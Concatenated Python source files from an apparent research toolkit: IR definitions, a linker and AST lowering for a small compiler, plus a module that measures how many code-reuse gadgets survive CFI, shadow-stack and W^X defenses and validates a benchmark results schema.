    def __str__(self) -> str:
        return f"{self.dst} = {self.op} {self.src}"


@dataclass(frozen=True)
class Copy(IRInstr):
    dst: Temp
    src: Value

    def __str__(self) -> str:
        return f"{self.dst} = {self.src}"


@dataclass(frozen=True)
class CmpSet(IRInstr):
    """dst = (lhs <op> rhs) ? 1 : 0."""

    dst: Temp
    op: str
    lhs: Value
    rhs: Value

    def __str__(self) -> str:
        return f"{self.dst} = {self.op} {self.lhs}, {self.rhs}"


@dataclass(frozen=True)
class Load(IRInstr):
    dst: Temp
    addr: Value
    width: int = 8  # 8 or 1

    def __str__(self) -> str:
        return f"{self.dst} = load{self.width} [{self.addr}]"


@dataclass(frozen=True)
class Store(IRInstr):
    addr: Value
    src: Value
    width: int = 8

    def __str__(self) -> str:
        return f"store{self.width} [{self.addr}], {self.src}"


@dataclass(frozen=True)
class AddrOfLocal(IRInstr):
    """dst = address of a stack-allocated array/buffer."""

    dst: Temp
    local: str

    def __str__(self) -> str:
        return f"{self.dst} = &local {self.local}"


@dataclass(frozen=True)
class AddrOfGlobal(IRInstr):
    dst: Temp
    symbol: str

    def __str__(self) -> str:
        return f"{self.dst} = &global {self.symbol}"


@dataclass(frozen=True)
class CallInstr(IRInstr):
    dst: Optional[Temp]
    func: str
    args: Tuple[Value, ...]

    def __str__(self) -> str:
        args = ", ".join(str(a) for a in self.args)
        prefix = f"{self.dst} = " if self.dst else ""
        return f"{prefix}call {self.func}({args})"


def instr_defs(instr: IRInstr) -> Tuple[Temp, ...]:
    """Temporaries written by ``instr`` (0 or 1 in the current IR)."""
    dst = getattr(instr, "dst", None)
    return (dst,) if isinstance(dst, Temp) else ()


def instr_uses(instr: IRInstr) -> Tuple[Value, ...]:
    """Values read by ``instr``, in field order."""
    out: List[Value] = []
    for name, f in vars(instr).items():
        if name == "dst":
            continue
        if isinstance(f, tuple):
            out.extend(x for x in f if isinstance(x, (Temp, Const)))
        elif isinstance(f, (Temp, Const)):
            out.append(f)
    return tuple(out)


# ---------------------------------------------------------------------------
# Terminators
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Terminator:
    pass


@dataclass(frozen=True)
class Jump(Terminator):
    target: str

    def __str__(self) -> str:
        return f"jump {self.target}"


@dataclass(frozen=True)
class Branch(Terminator):
    """Fused compare-and-branch: if (lhs <op> rhs) goto then else goto els."""

    op: str
    lhs: Value
    rhs: Value
    then: str
    els: str

    def __str__(self) -> str:
        return f"br {self.op} {self.lhs}, {self.rhs} ? {self.then} : {self.els}"


@dataclass(frozen=True)
class Ret(Terminator):
    value: Optional[Value] = None

    def __str__(self) -> str:
        return f"ret {self.value}" if self.value is not None else "ret"


def terminator_uses(term: Optional[Terminator]) -> Tuple[Value, ...]:
    """Values read by a terminator."""
    if isinstance(term, Branch):
        return (term.lhs, term.rhs)
    if isinstance(term, Ret) and term.value is not None:
        return (term.value,)
    return ()


# ---------------------------------------------------------------------------
# Blocks and functions
# ---------------------------------------------------------------------------


@dataclass
class Block:
    label: str
    instrs: List[IRInstr] = field(default_factory=list)
    terminator: Optional[Terminator] = None

    def successors(self) -> Tuple[str, ...]:
        t = self.terminator
        if isinstance(t, Jump):
            return (t.target,)
        if isinstance(t, Branch):
            return (t.then, t.els)
        return ()

    def __str__(self) -> str:
        lines = [f"{self.label}:"]
        lines += [f"  {i}" for i in self.instrs]
        lines.append(f"  {self.terminator}")
        return "\n".join(lines)


@dataclass
class IRFunction:
    name: str
    params: List[str]
    blocks: Dict[str, Block] = field(default_factory=dict)
    entry: str = "entry"
    #: Stack-allocated arrays: name → size in bytes.
    local_arrays: Dict[str, int] = field(default_factory=dict)
    _counter: itertools.count = field(default_factory=itertools.count, repr=False)

    def new_temp(self, hint: str = "t") -> Temp:
        return Temp(f"{hint}{next(self._counter)}")

    def new_label(self, hint: str = "bb") -> str:
        return f"{hint}{next(self._counter)}"

    def add_block(self, label: str) -> Block:
        if label in self.blocks:
            raise ValueError(f"duplicate block label {label!r}")
        block = Block(label)
        self.blocks[label] = block
        return block

    def block_order(self) -> List[Block]:
        """Blocks in a stable order: entry first, then insertion order."""
        ordered = [self.blocks[self.entry]]
        ordered += [b for label, b in self.blocks.items() if label != self.entry]
        return ordered

    def temps(self) -> List[Temp]:
        """All temporaries referenced anywhere in the function."""
        seen: Dict[str, Temp] = {}

        def visit(v) -> None:
            if isinstance(v, Temp):
                seen.setdefault(v.name, v)

        for block in self.blocks.values():
            for instr in block.instrs:
                for v in instr_defs(instr):
                    visit(v)
                for v in instr_uses(instr):
                    visit(v)
            for v in terminator_uses(block.terminator):
                visit(v)
        for p in self.params:
            seen.setdefault(p, Temp(p))
        return list(seen.values())

    def __str__(self) -> str:
        header = f"func {self.name}({', '.join(self.params)})"
        return header + "\n" + "\n".join(str(b) for b in self.block_order())


@dataclass
class IRModule:
    """A compilation unit: functions plus global data layout."""

    functions: Dict[str, IRFunction] = field(default_factory=dict)
    #: Global scalars/arrays: name → size in bytes.
    global_vars: Dict[str, int] = field(default_factory=dict)
    #: Initial values for global words: name → value (scalars only).
    global_inits: Dict[str, int] = field(default_factory=dict)
    #: Raw initialized global blobs (e.g. VM bytecode): name → bytes.
    global_data: Dict[str, bytes] = field(default_factory=dict)
    #: Interned byte strings: label → bytes (with NUL terminator).
    string_pool: Dict[str, bytes] = field(default_factory=dict)

    def intern_string(self, data: bytes) -> str:
        for label, existing in self.string_pool.items():
            if existing == data:
                return label
        label = f"__str{len(self.string_pool)}"
        self.string_pool[label] = data
        return label

    def function(self, name: str) -> IRFunction:
        return self.functions[name]

    def __str__(self) -> str:
        return "\n\n".join(str(f) for f in self.functions.values())


_CMP_NEGATIONS = {
    "eq": "ne",
    "ne": "eq",
    "ult": "uge",
    "ule": "ugt",
    "ugt": "ule",
    "uge": "ult",
    "slt": "sge",
    "sle": "sgt",
    "sgt": "sle",
    "sge": "slt",
}


def negate_cmp(op: str) -> str:
    return _CMP_NEGATIONS[op]


_CMP_SWAPPED = {
    "eq": "eq",
    "ne": "ne",
    "ult": "ugt",
    "ule": "uge",
    "ugt": "ult",
    "uge": "ule",
    "slt": "sgt",
    "sle": "sge",
    "sgt": "slt",
    "sge": "sle",
}


def swap_cmp(op: str) -> str:
    return _CMP_SWAPPED[op]
