"""Linking: module assembly + data layout → a loadable BinaryImage."""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Dict

from ..binfmt.image import BinaryImage, DATA_BASE, TEXT_BASE, make_image
from ..isa.assembler import assemble_unit
from .codegen import generate_module_asm
from .ir import IRModule


@dataclass
class LinkedProgram:
    """A linked executable plus the maps tests and attacks need."""

    image: BinaryImage
    text_asm: str
    data_symbols: Dict[str, int]

    def symbol(self, name: str) -> int:
        return self.image.symbol(name)


def layout_data(module: IRModule, data_base: int = DATA_BASE) -> tuple[bytes, Dict[str, int]]:
    """Assign addresses to globals and interned strings; build .data."""
    symbols: Dict[str, int] = {}
    blob = bytearray()

    def align8() -> None:
        while len(blob) % 8:
            blob.append(0)

    for name, size in module.global_vars.items():
        align8()
        symbols[name] = data_base + len(blob)
        init = module.global_inits.get(name)
        if init is not None and size == 8:
            blob += struct.pack("<Q", init & ((1 << 64) - 1))
        else:
            blob += b"\x00" * size
    for name, data in module.global_data.items():
        align8()
        symbols[name] = data_base + len(blob)
        blob += data
    for label, data in module.string_pool.items():
        symbols[label] = data_base + len(blob)
        blob += data
    return bytes(blob), symbols


def link_module(module: IRModule, *, entry_symbol: str = "_start") -> LinkedProgram:
    """Assemble a module's code and data into an executable image."""
    # The runtime's csu walks __init_array; entry 0 is the count (0).
    module.global_vars.setdefault("__init_array", 16)
    data_blob, data_symbols = layout_data(module)
    asm = generate_module_asm(module)
    unit = assemble_unit(asm, base_addr=TEXT_BASE, extra_labels=data_symbols)
    symbols = dict(unit.labels)
    image = make_image(
        unit.code,
        data=data_blob,
        entry=symbols[entry_symbol],
        symbols=symbols,
    )
    return LinkedProgram(image=image, text_asm=asm, data_symbols=data_symbols)
