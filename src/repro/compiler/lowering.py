"""Lowering from the MC AST to the three-address IR.

Semantics notes (documented deviations from full C, all deliberate):

* the only scalar type is a 64-bit unsigned word; ``u8`` matters only
  behind pointers/arrays, where indexing loads/stores single bytes;
* ``p[i]`` scales by the element size (8 for ``u64*``, 1 for ``u8*``);
  raw pointer arithmetic ``p + n`` is *byte*-granular;
* ``&x`` is allowed on arrays and globals (things with addresses) —
  scalar locals live in virtual registers and have none;
* division is unsigned; comparison operators are unsigned unless they
  appear via the signed helpers (not exposed in MC — benchmarks use
  unsigned logic).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from ..lang import ast as A
from .ir import (
    AddrOfGlobal,
    AddrOfLocal,
    BinOp,
    Block,
    Branch,
    CallInstr,
    CmpSet,
    Const,
    Copy,
    IRFunction,
    IRModule,
    Jump,
    Load,
    Ret,
    Store,
    Temp,
    UnOp,
    Value,
)

#: Functions provided by the runtime, not defined in MC source.
BUILTINS = {"print", "print_str", "print_char", "exit", "syscall"}

_BIN_OP_MAP = {
    "+": "add",
    "-": "sub",
    "*": "mul",
    "/": "udiv",
    "%": "umod",
    "&": "and",
    "|": "or",
    "^": "xor",
    "<<": "shl",
    ">>": "shr",
}

_CMP_OP_MAP = {
    "==": "eq",
    "!=": "ne",
    "<": "ult",
    "<=": "ule",
    ">": "ugt",
    ">=": "uge",
}


class LoweringError(ValueError):
    """A semantic error found while lowering."""


@dataclass
class _Binding:
    kind: str  # "temp" | "array" | "global" | "global_array"
    type: A.Type
    temp: Optional[Temp] = None
    symbol: Optional[str] = None


def _sizeof(ty: A.Type) -> int:
    if ty.kind == "array":
        return _sizeof_elem(ty.elem) * ty.count
    return 8


def _sizeof_elem(ty: A.Type) -> int:
    return 1 if ty.kind == "u8" else 8


class FunctionLowerer:
    def __init__(self, module: IRModule, program: A.Program, func: A.Function):
        self.module = module
        self.program = program
        self.ast_func = func
        self.fn = IRFunction(name=func.name, params=[p.name for p in func.params])
        self.scopes: List[Dict[str, _Binding]] = []
        self.current: Block = self.fn.add_block("entry")
        self.loop_stack: List[Tuple[str, str]] = []  # (continue label, break label)
        self._globals: Dict[str, A.GlobalVar] = {g.name: g for g in program.globals}

    # -- block plumbing --------------------------------------------------------

    def _start_block(self, label: str) -> Block:
        block = self.fn.add_block(label)
        self.current = block
        return block

    def _terminate(self, terminator) -> None:
        if self.current.terminator is None:
            self.current.terminator = terminator

    def _emit(self, instr) -> None:
        if self.current.terminator is None:
            self.current.instrs.append(instr)

    # -- scope -----------------------------------------------------------------

    def _push_scope(self) -> None:
        self.scopes.append({})

    def _pop_scope(self) -> None:
        self.scopes.pop()

    def _declare(self, name: str, binding: _Binding) -> None:
        if name in self.scopes[-1]:
            raise LoweringError(f"redeclaration of {name!r} in {self.fn.name}")
        self.scopes[-1][name] = binding

    def _lookup(self, name: str) -> _Binding:
        for scope in reversed(self.scopes):
            if name in scope:
                return scope[name]
        g = self._globals.get(name)
        if g is not None:
            kind = "global_array" if g.type.kind == "array" else "global"
            return _Binding(kind=kind, type=g.type, symbol=name)
        raise LoweringError(f"undefined variable {name!r} in {self.fn.name}")

    # -- entry point ------------------------------------------------------------

    def lower(self) -> IRFunction:
        self._push_scope()
        for param in self.ast_func.params:
            self._declare(param.name, _Binding(kind="temp", type=param.type, temp=Temp(param.name)))
        self._lower_stmts(self.ast_func.body)
        self._terminate(Ret(Const(0)))
        self._pop_scope()
        # Give every block a terminator (empty fall-off → ret 0).
        for block in self.fn.blocks.values():
            if block.terminator is None:
                block.terminator = Ret(Const(0))
        return self.fn

    # -- statements ----------------------------------------------------------------

    def _lower_stmts(self, stmts) -> None:
        self._push_scope()
        for stmt in stmts:
            self._lower_stmt(stmt)
        self._pop_scope()

    def _lower_stmt(self, stmt: A.Stmt) -> None:
        if isinstance(stmt, A.Decl):
            self._lower_decl(stmt)
        elif isinstance(stmt, A.ExprStmt):
            self._lower_expr(stmt.expr)
        elif isinstance(stmt, A.If):
            self._lower_if(stmt)
        elif isinstance(stmt, A.While):
            self._lower_while(stmt)
        elif isinstance(stmt, A.For):
            self._lower_for(stmt)
        elif isinstance(stmt, A.Return):
            value, _ = self._lower_expr(stmt.value) if stmt.value else (Const(0), A.U64)
            self._terminate(Ret(value))
        elif isinstance(stmt, A.Break):
            if not self.loop_stack:
                raise LoweringError("break outside a loop")
            self._terminate(Jump(self.loop_stack[-1][1]))
        elif isinstance(stmt, A.Continue):
            if not self.loop_stack:
                raise LoweringError("continue outside a loop")
            self._terminate(Jump(self.loop_stack[-1][0]))
        else:  # pragma: no cover - exhaustive
            raise AssertionError(f"unhandled stmt {stmt!r}")

    def _lower_decl(self, decl: A.Decl) -> None:
        if decl.type.kind == "array":
            local_name = f"{decl.name}.{len(self.fn.local_arrays)}"
            self.fn.local_arrays[local_name] = _sizeof(decl.type)
            self._declare(decl.name, _Binding(kind="array", type=decl.type, symbol=local_name))
            if decl.init is not None:
                raise LoweringError("array initializers are not supported")
            return
        temp = self.fn.new_temp(decl.name)
        self._declare(decl.name, _Binding(kind="temp", type=decl.type, temp=temp))
        if decl.init is not None:
            value, _ = self._lower_expr(decl.init)
            self._emit(Copy(temp, value))
        else:
            self._emit(Copy(temp, Const(0)))

    def _lower_if(self, stmt: A.If) -> None:
        then_label = self.fn.new_label("then")
        else_label = self.fn.new_label("else") if stmt.otherwise else None
        join_label = self.fn.new_label("join")
        self._lower_condition(stmt.cond, then_label, else_label or join_label)
        self._start_block(then_label)
        self._lower_stmts(stmt.then)
        self._terminate(Jump(join_label))
        if else_label:
            self._start_block(else_label)
            self._lower_stmts(stmt.otherwise)
            self._terminate(Jump(join_label))
        self._start_block(join_label)

    def _lower_while(self, stmt: A.While) -> None:
        head = self.fn.new_label("while_head")
        body = self.fn.new_label("while_body")
        exit_label = self.fn.new_label("while_exit")
        self._terminate(Jump(head))
        self._start_block(head)
        self._lower_condition(stmt.cond, body, exit_label)
        self._start_block(body)
        self.loop_stack.append((head, exit_label))
        self._lower_stmts(stmt.body)
        self.loop_stack.pop()
        self._terminate(Jump(head))
        self._start_block(exit_label)

    def _lower_for(self, stmt: A.For) -> None:
        head = self.fn.new_label("for_head")
        body = self.fn.new_label("for_body")
        step = self.fn.new_label("for_step")
        exit_label = self.fn.new_label("for_exit")
        self._push_scope()
        if stmt.init is not None:
            self._lower_stmt(stmt.init)
        self._terminate(Jump(head))
        self._start_block(head)
        if stmt.cond is not None:
            self._lower_condition(stmt.cond, body, exit_label)
        else:
            self._terminate(Jump(body))
        self._start_block(body)
        self.loop_stack.append((step, exit_label))
        self._lower_stmts(stmt.body)
        self.loop_stack.pop()
        self._terminate(Jump(step))
        self._start_block(step)
        if stmt.step is not None:
            self._lower_expr(stmt.step)
        self._terminate(Jump(head))
        self._start_block(exit_label)

    def _lower_condition(self, cond: A.Expr, true_label: str, false_label: str) -> None:
        """Lower a condition with short-circuiting into branches."""
        if isinstance(cond, A.Binary) and cond.op == "&&":
            mid = self.fn.new_label("and_rhs")
            self._lower_condition(cond.lhs, mid, false_label)
            self._start_block(mid)
            self._lower_condition(cond.rhs, true_label, false_label)
            return
        if isinstance(cond, A.Binary) and cond.op == "||":
            mid = self.fn.new_label("or_rhs")
            self._lower_condition(cond.lhs, true_label, mid)
            self._start_block(mid)
            self._lower_condition(cond.rhs, true_label, false_label)
            return
        if isinstance(cond, A.Unary) and cond.op == "!":
            self._lower_condition(cond.operand, false_label, true_label)
            return
        if isinstance(cond, A.Binary) and cond.op in _CMP_OP_MAP:
            lhs, _ = self._lower_expr(cond.lhs)
            rhs, _ = self._lower_expr(cond.rhs)
            self._terminate(Branch(_CMP_OP_MAP[cond.op], lhs, rhs, true_label, false_label))
            return
        value, _ = self._lower_expr(cond)
        self._terminate(Branch("ne", value, Const(0), true_label, false_label))

    # -- expressions ----------------------------------------------------------------

    def _lower_expr(self, expr: A.Expr) -> Tuple[Value, A.Type]:
        if isinstance(expr, A.IntLit):
            return Const(expr.value), A.U64
        if isinstance(expr, A.StrLit):
            label = self.module.intern_string(expr.value + b"\x00")
            dst = self.fn.new_temp("str")
            self._emit(AddrOfGlobal(dst, label))
            return dst, A.ptr_to(A.Type("u8"))
        if isinstance(expr, A.Var):
            return self._lower_var(expr)
        if isinstance(expr, A.Assign):
            return self._lower_assign(expr)
        if isinstance(expr, A.Binary):
            return self._lower_binary(expr)
        if isinstance(expr, A.Unary):
            return self._lower_unary(expr)
        if isinstance(expr, A.Call):
            return self._lower_call(expr)
        if isinstance(expr, A.Index):
            addr, elem_ty = self._lower_index_addr(expr)
            dst = self.fn.new_temp("ld")
            self._emit(Load(dst, addr, width=_sizeof_elem(elem_ty)))
            return dst, elem_ty
        raise AssertionError(f"unhandled expr {expr!r}")  # pragma: no cover

    def _lower_var(self, expr: A.Var) -> Tuple[Value, A.Type]:
        binding = self._lookup(expr.name)
        if binding.kind == "temp":
            return binding.temp, binding.type
        if binding.kind == "array":
            dst = self.fn.new_temp("addr")
            self._emit(AddrOfLocal(dst, binding.symbol))
            return dst, A.ptr_to(binding.type.elem)
        if binding.kind == "global_array":
            dst = self.fn.new_temp("addr")
            self._emit(AddrOfGlobal(dst, binding.symbol))
            return dst, A.ptr_to(binding.type.elem)
        # global scalar: load its word
        addr = self.fn.new_temp("gaddr")
        self._emit(AddrOfGlobal(addr, binding.symbol))
        dst = self.fn.new_temp("gval")
        self._emit(Load(dst, addr, width=8))
        return dst, binding.type

    def _lower_assign(self, expr: A.Assign) -> Tuple[Value, A.Type]:
        value, value_ty = self._lower_expr(expr.value)
        target = expr.target
        if isinstance(target, A.Var):
            binding = self._lookup(target.name)
            if binding.kind == "temp":
                self._emit(Copy(binding.temp, value))
                return binding.temp, binding.type
            if binding.kind == "global":
                addr = self.fn.new_temp("gaddr")
                self._emit(AddrOfGlobal(addr, binding.symbol))
                self._emit(Store(addr, value, width=8))
                return value, binding.type
            raise LoweringError(f"cannot assign to array {target.name!r}")
        if isinstance(target, A.Unary) and target.op == "*":
            addr, ptr_ty = self._lower_expr(target.operand)
            if not ptr_ty.is_pointer:
                raise LoweringError("dereferencing a non-pointer")
            self._emit(Store(addr, value, width=_sizeof_elem(ptr_ty.elem)))
            return value, ptr_ty.elem
        if isinstance(target, A.Index):
            addr, elem_ty = self._lower_index_addr(target)
            self._emit(Store(addr, value, width=_sizeof_elem(elem_ty)))
            return value, elem_ty
        raise LoweringError(f"invalid assignment target {target!r}")

    def _lower_index_addr(self, expr: A.Index) -> Tuple[Value, A.Type]:
        base, base_ty = self._lower_expr(expr.base)
        if not base_ty.is_pointer:
            raise LoweringError("indexing a non-pointer")
        index, _ = self._lower_expr(expr.index)
        elem = base_ty.elem
        scale = _sizeof_elem(elem)
        if scale != 1:
            scaled = self.fn.new_temp("idx")
            self._emit(BinOp(scaled, "mul", index, Const(scale)))
            index = scaled
        addr = self.fn.new_temp("ea")
        self._emit(BinOp(addr, "add", base, index))
        return addr, elem

    def _lower_binary(self, expr: A.Binary) -> Tuple[Value, A.Type]:
        if expr.op in ("&&", "||"):
            # Value-position short circuit: materialize 0/1 via blocks.
            result = self.fn.new_temp("bool")
            true_label = self.fn.new_label("sc_true")
            false_label = self.fn.new_label("sc_false")
            join = self.fn.new_label("sc_join")
            self._lower_condition(expr, true_label, false_label)
            self._start_block(true_label)
            self._emit(Copy(result, Const(1)))
            self._terminate(Jump(join))
            self._start_block(false_label)
            self._emit(Copy(result, Const(0)))
            self._terminate(Jump(join))
            self._start_block(join)
            return result, A.U64
        lhs, lhs_ty = self._lower_expr(expr.lhs)
        rhs, _ = self._lower_expr(expr.rhs)
        if expr.op in _CMP_OP_MAP:
            dst = self.fn.new_temp("cmp")
            self._emit(CmpSet(dst, _CMP_OP_MAP[expr.op], lhs, rhs))
            return dst, A.U64
        op = _BIN_OP_MAP.get(expr.op)
        if op is None:
            raise LoweringError(f"unsupported operator {expr.op!r}")
        dst = self.fn.new_temp("bin")
        self._emit(BinOp(dst, op, lhs, rhs))
        result_ty = lhs_ty if lhs_ty.is_pointer and expr.op in ("+", "-") else A.U64
        return dst, result_ty

    def _lower_unary(self, expr: A.Unary) -> Tuple[Value, A.Type]:
        if expr.op == "*":
            addr, ptr_ty = self._lower_expr(expr.operand)
            if not ptr_ty.is_pointer:
                raise LoweringError("dereferencing a non-pointer")
            dst = self.fn.new_temp("deref")
            self._emit(Load(dst, addr, width=_sizeof_elem(ptr_ty.elem)))
            return dst, ptr_ty.elem
        if expr.op == "&":
            target = expr.operand
            if isinstance(target, A.Var):
                binding = self._lookup(target.name)
                if binding.kind == "array":
                    dst = self.fn.new_temp("addr")
                    self._emit(AddrOfLocal(dst, binding.symbol))
                    return dst, A.ptr_to(binding.type.elem)
                if binding.kind in ("global", "global_array"):
                    dst = self.fn.new_temp("addr")
                    self._emit(AddrOfGlobal(dst, binding.symbol))
                    elem = binding.type.elem if binding.type.kind == "array" else binding.type
                    return dst, A.ptr_to(elem)
                raise LoweringError("cannot take the address of a scalar local")
            if isinstance(target, A.Index):
                addr, elem_ty = self._lower_index_addr(target)
                return addr, A.ptr_to(elem_ty)
            raise LoweringError(f"cannot take the address of {target!r}")
        operand, _ = self._lower_expr(expr.operand)
        dst = self.fn.new_temp("un")
        if expr.op == "-":
            self._emit(UnOp(dst, "neg", operand))
        elif expr.op == "~":
            self._emit(UnOp(dst, "not", operand))
        elif expr.op == "!":
            self._emit(CmpSet(dst, "eq", operand, Const(0)))
        else:  # pragma: no cover
            raise AssertionError(expr.op)
        return dst, A.U64

    def _lower_call(self, expr: A.Call) -> Tuple[Value, A.Type]:
        known = {f.name for f in self.program.functions} | BUILTINS
        if expr.func not in known:
            raise LoweringError(f"call to undefined function {expr.func!r}")
        args = tuple(self._lower_expr(a)[0] for a in expr.args)
        if len(args) > 6:
            raise LoweringError("more than 6 arguments are not supported")
        dst = self.fn.new_temp("ret")
        self._emit(CallInstr(dst, expr.func, args))
        return dst, A.U64


def lower_program(program: A.Program) -> IRModule:
    """Lower a parsed MC program into an IR module."""
    module = IRModule()
    for g in program.globals:
        module.global_vars[g.name] = _sizeof(g.type)
        if g.init is not None:
            if not isinstance(g.init, A.IntLit):
                raise LoweringError(f"global {g.name!r}: only integer initializers")
            module.global_inits[g.name] = g.init.value
    for func in program.functions:
        module.functions[func.name] = FunctionLowerer(module, program, func).lower()
    if "main" not in module.functions:
        raise LoweringError("program has no main()")
    return module
