"""Composable mitigation models — the defense side of the ledger.

The paper measures how much code-reuse attack surface obfuscation
*adds*; this package measures how much of that surface deployed
mitigations *reclaim*.  One :class:`DefensePolicy` plugs into three
layers:

1. **enforcement** (:mod:`.enforce`) — CFI, shadow stack and W^X
   checks on a concrete emulator run; the ground truth payloads are
   validated against;
2. **filtering** (:mod:`.survive`) — per-gadget survival over the
   winnowed pools, giving the census its surviving-attack-surface
   counts;
3. **planning** — ``GadgetPlanner(defense=policy)`` chains only
   surviving gadgets and validates under enforcement, adding the
   defense dimension to the Table-4-style payload results.

See ``EXPERIMENTS.md`` ("Defense matrix") for the experiment built on
top, and ``benchmarks/test_defense_matrix.py`` for the artifact.
"""

from .cfi import CFITargets, KIND_CALL, KIND_JUMP, KIND_RET
from .census import (
    BENCH_DEFENSES_SCHEMA,
    defense_census,
    defense_matrix_entry,
    format_defense_census,
    format_defense_matrix,
    resolve_policies,
    validate_defense_matrix,
)
from .enforce import (
    ASLR_SLIDE,
    DefenseViolation,
    EnforcedRun,
    PolicyEnforcer,
    enforced_emulator,
    validate_payload_with_policy,
)
from .policy import (
    CFIMode,
    DEFAULT_CENSUS_POLICIES,
    DefensePolicy,
    POLICIES,
    parse_policy,
)
from .survive import SurvivalCensus, filter_pool, gadget_survives

__all__ = [
    "ASLR_SLIDE",
    "BENCH_DEFENSES_SCHEMA",
    "CFIMode",
    "CFITargets",
    "DEFAULT_CENSUS_POLICIES",
    "DefensePolicy",
    "DefenseViolation",
    "EnforcedRun",
    "KIND_CALL",
    "KIND_JUMP",
    "KIND_RET",
    "POLICIES",
    "PolicyEnforcer",
    "SurvivalCensus",
    "defense_census",
    "defense_matrix_entry",
    "enforced_emulator",
    "filter_pool",
    "format_defense_census",
    "format_defense_matrix",
    "gadget_survives",
    "parse_policy",
    "resolve_policies",
    "validate_defense_matrix",
    "validate_payload_with_policy",
]
