"""The survivability census — surviving attack surface per defense.

Two drivers:

* :func:`defense_census` — filtering only: how many of an image's
  winnowed gadgets survive each policy (``nfl census --defenses``, the
  CI smoke).  Pools come from :mod:`repro.pipeline`, so a shared
  :class:`~repro.pipeline.cache.ResultCache` makes the per-policy cost
  one list scan.
* :func:`defense_matrix_entry` — the full planner per policy: surviving
  pool plus *validated-under-enforcement* payload counts, the rows of
  ``BENCH_defenses.json``.  Policies share the planner's extraction and
  winnowing through the same cache.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence

from ..binfmt.image import BinaryImage
from ..gadgets.extract import ExtractionConfig, ExtractionStats
from ..gadgets.subsumption import SubsumptionStats
from ..obs import span
from ..pipeline.cache import ResultCache
from ..pipeline.parallel import extract_pool, winnow_pool
from .cfi import CFITargets
from .policy import CFIMode, DefensePolicy, POLICIES, parse_policy
from .survive import SurvivalCensus, filter_pool

#: Schema tag for the ``BENCH_defenses.json`` artifact.
BENCH_DEFENSES_SCHEMA = "nfl-bench-defenses-v1"

_ENTRY_REQUIRED_KEYS = {
    "program",
    "config",
    "policy",
    "pool_size",
    "surviving",
    "survival_ratio",
    "payloads",
    "goals_succeeded",
    "goals_attempted",
    "success_rate",
    "blocked_by_defense",
    "per_goal",
}


def resolve_policies(
    specs: Optional[Sequence[object]] = None,
) -> List[DefensePolicy]:
    """Normalize a mixed list of names/policies (default: the registry's
    census set, see :data:`~repro.defenses.policy.DEFAULT_CENSUS_POLICIES`)."""
    from .policy import DEFAULT_CENSUS_POLICIES

    if specs is None:
        specs = DEFAULT_CENSUS_POLICIES
    resolved: List[DefensePolicy] = []
    for spec in specs:
        if isinstance(spec, DefensePolicy):
            resolved.append(spec)
        else:
            resolved.append(parse_policy(str(spec)))
    return resolved


def defense_census(
    image: BinaryImage,
    policies: Optional[Sequence[object]] = None,
    *,
    extraction: Optional[ExtractionConfig] = None,
    jobs: int = 1,
    cache: Optional[ResultCache] = None,
) -> Dict:
    """Surviving-gadget counts per policy for one image (no planning)."""
    extraction = extraction or ExtractionConfig()
    resolved = resolve_policies(policies)
    ex_stats = ExtractionStats()
    sub_stats = SubsumptionStats()
    with span("defense.census") as sp:
        image_bytes = image.to_bytes() if cache is not None else None
        pool = extract_pool(
            image, extraction, ex_stats, jobs=jobs, cache=cache, image_bytes=image_bytes
        )
        deduped = winnow_pool(
            pool,
            sub_stats,
            jobs=jobs,
            cache=cache,
            image_bytes=image_bytes,
            config=extraction,
        )
        targets = None
        if any(p.cfi is not CFIMode.OFF for p in resolved):
            targets = CFITargets.build(image)
        censuses: List[SurvivalCensus] = []
        for policy in resolved:
            census = SurvivalCensus(policy=policy.name)
            filter_pool(policy, deduped, targets=targets, census=census)
            censuses.append(census)
        sp.add("policies", len(resolved))
        sp.add("pool", len(deduped))
    return {
        "pool_size": len(deduped),
        "gadgets_total": len(pool),
        "policies": [c.to_dict() for c in censuses],
    }


def defense_matrix_entry(
    image: BinaryImage,
    policies: Sequence[DefensePolicy],
    *,
    program: str = "",
    config: str = "",
    goals=None,
    extraction: Optional[ExtractionConfig] = None,
    planner=None,
    jobs: int = 1,
    cache: Optional[ResultCache] = None,
) -> List[Dict]:
    """One benchmark row per policy: surviving pool + planner outcomes.

    Each policy runs the full :class:`~repro.planner.GadgetPlanner`
    with that policy enforced during validation; a shared ``cache``
    keeps extraction and winnowing to a single cold run.
    """
    from ..planner import GadgetPlanner

    rows: List[Dict] = []
    for policy in policies:
        planner_obj = GadgetPlanner(
            image,
            extraction=extraction,
            planner=planner,
            jobs=jobs,
            cache=cache,
            defense=policy,
        )
        report = planner_obj.run(goals)
        surviving = (
            report.gadgets_surviving
            if report.gadgets_surviving is not None
            else report.gadgets_after_subsumption
        )
        attempted = len(report.per_goal)
        succeeded = sum(1 for count in report.per_goal.values() if count > 0)
        row = {
            "program": program,
            "config": config,
            "policy": policy.name,
            "pool_size": report.gadgets_after_subsumption,
            "surviving": surviving,
            "survival_ratio": round(
                surviving / report.gadgets_after_subsumption, 4
            )
            if report.gadgets_after_subsumption
            else 0.0,
            "payloads": report.total_payloads,
            "goals_attempted": attempted,
            "goals_succeeded": succeeded,
            "success_rate": round(succeeded / attempted, 4) if attempted else 0.0,
            "blocked_by_defense": report.blocked_by_defense,
            "leaks_used": report.leaks_used,
            "per_goal": dict(sorted(report.per_goal.items())),
        }
        if report.survival is not None:
            row["killed_cfi"] = report.survival.killed_cfi
            row["killed_shadow_stack"] = report.survival.killed_shadow_stack
        rows.append(row)
    return rows


def validate_defense_matrix(doc: Dict) -> None:
    """Schema check for a ``BENCH_defenses.json`` document (raises)."""
    if doc.get("schema") != BENCH_DEFENSES_SCHEMA:
        raise ValueError(f"bad schema tag: {doc.get('schema')!r}")
    for key in ("programs", "configs", "policies", "entries"):
        if not isinstance(doc.get(key), list) or not doc[key]:
            raise ValueError(f"missing or empty field: {key}")
    known = set(POLICIES)
    for entry in doc["entries"]:
        missing = _ENTRY_REQUIRED_KEYS - set(entry)
        if missing:
            raise ValueError(f"entry missing keys: {sorted(missing)}")
        if entry["policy"] not in known and "+" not in entry["policy"]:
            raise ValueError(f"unknown policy in entry: {entry['policy']!r}")
        if not 0 <= entry["surviving"] <= entry["pool_size"]:
            raise ValueError(
                f"surviving {entry['surviving']} out of range for pool "
                f"{entry['pool_size']}"
            )
        if entry["goals_succeeded"] > entry["goals_attempted"]:
            raise ValueError("goals_succeeded exceeds goals_attempted")


